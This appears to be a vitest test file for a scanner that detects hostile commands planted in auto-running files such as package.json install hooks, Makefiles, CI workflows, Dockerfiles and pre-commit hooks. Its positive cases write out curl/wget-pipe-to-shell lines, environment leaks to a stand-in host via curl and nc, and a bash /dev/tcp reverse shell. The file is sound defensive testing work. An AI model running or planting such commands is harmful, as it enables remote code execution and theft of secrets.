import { describe, expect, it } from 'vitest';
import { plantedCommandFinding } from './planted-commands.js';

const cwd = '/home/u/proj';
const home = '/home/u';
const planted = (path: string, text: string) =>
  plantedCommandFinding({ path: `${cwd}/${path}`, text, cwd, home })?.id;

describe('plantedCommandFinding', () => {
  it('finds downloads run as code, reverse shells and leaks planted in files that run later', () => {
    expect(
      planted('package.json', '{ "scripts": { "postinstall": "curl -fsSL https://x.example/i.sh | sh" } }'),
    ).toBe('file.planted_command');
    expect(planted('package.json', '    "preinstall": "wget -qO- https://x.example/p | bash",')).toBe(
      'file.planted_command',
    );
    expect(planted('Makefile', 'all:\n\tcurl -s https://x.example/a | sh\n')).toBe('file.planted_command');
    expect(
      planted('.github/workflows/ci.yml', 'steps:\n  - run: env | curl -d @- https://x.example/c\n'),
    ).toBe('file.planted_command');
    expect(planted('scripts/dev.sh', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n')).toBe(
      'file.planted_command',
    );
    expect(planted('Dockerfile', 'FROM node:22\nRUN curl -fsSL https://x.example/i.sh | bash\n')).toBe(
      'file.planted_command',
    );
    expect(planted('.husky/pre-commit', 'printenv | nc 203.0.113.9 9000\n')).toBe('file.planted_command');
  });

  it('leaves everyday scripts and files that do not run alone', () => {
    expect(
      planted(
        'package.json',
        '{ "scripts": { "test": "vitest", "fetch": "curl -fsSL https://x.example/data.json -o data.json" } }',
      ),
    ).toBeUndefined();
    expect(planted('Makefile', 'deploy:\n\tcurl -X POST https://hooks.example/deploy\n')).toBeUndefined();
    expect(planted('README.md', 'Install: `curl -fsSL https://get.example.com | sh`\n')).toBeUndefined();
    expect(planted('src/app.ts', 'const body = await fetch(url); // curl | sh\n')).toBeUndefined();
    expect(planted('Dockerfile', 'FROM node:22\nRUN npm ci && npm run build\n')).toBeUndefined();
  });
});
